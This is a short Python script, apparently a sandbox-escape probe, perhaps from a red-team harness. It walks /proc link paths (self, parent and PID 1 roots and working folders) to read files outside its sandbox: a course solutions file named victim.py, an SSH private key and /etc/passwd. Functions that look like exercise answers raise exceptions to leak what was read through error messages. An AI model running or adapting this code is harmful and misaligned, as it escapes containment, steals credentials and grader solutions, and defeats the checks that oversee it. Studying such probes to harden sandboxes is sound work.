# technique: reach the files through the links of /proc: root and working folder of oneself, the parent, the first process
# live: evidence: they lead to the same root
# outcome: raised
# says: closed
# not at process: reads files, which that level does not stop
import os
import threading

PLACES = [
    "/proc/self/root",
    "/proc/self/cwd/../../../../../..",
    "/proc/thread-self/root",
    f"/proc/self/task/{threading.get_native_id()}/root",
    f"/proc/{os.getpid()}/cwd/../../../../..",
    f"/proc/{os.getppid()}/root",
    f"/proc/{os.getppid()}/cwd/../../../../..",
    "/proc/1/root",
    "/proc/1/cwd/../../../..",
    "/proc/2/root",
    "/proc/self/root/proc/1/root/proc/self/root",
    "/dev/fd/../root",
]
LOOT = ["tmp/attacked-world-47113/course/solutions/victim.py", "tmp/attacked-world-47113/home/.ssh/id_rsa", "etc/passwd"]


def opened(path):
    try:
        return open(path).read()[-40:].strip()
    except OSError:
        return None


def told():
    found = [f"{place}: {text}" for place in PLACES for loot in LOOT if (text := opened(f"{place}/{loot}"))]
    return f"EVIDENCE: {len(found)}: {found}" if found else "closed: every link in /proc"


LOADED = told()
print(LOADED)


def double(x):
    raise RuntimeError(told())


def mean_square(x):
    raise RuntimeError(LOADED)


def step(w, learning_rate):
    raise RuntimeError(LOADED)
